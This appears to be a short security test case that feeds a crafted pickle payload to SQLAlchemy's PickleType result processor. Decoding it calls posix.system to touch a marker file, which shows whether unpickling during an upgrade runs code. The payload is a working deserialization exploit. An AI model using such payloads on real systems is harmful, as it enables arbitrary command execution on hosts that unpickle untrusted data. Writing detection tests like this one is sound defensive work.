# Tries: a column type that unpickles
# Noticed by: file
# Place: upgrade
import pickle
value = b"cposix\nsystem\n(S'touch @OUTSIDE@/fired'\ntR."
sa.PickleType().result_processor(sa.create_engine("sqlite://").dialect, None)(value)
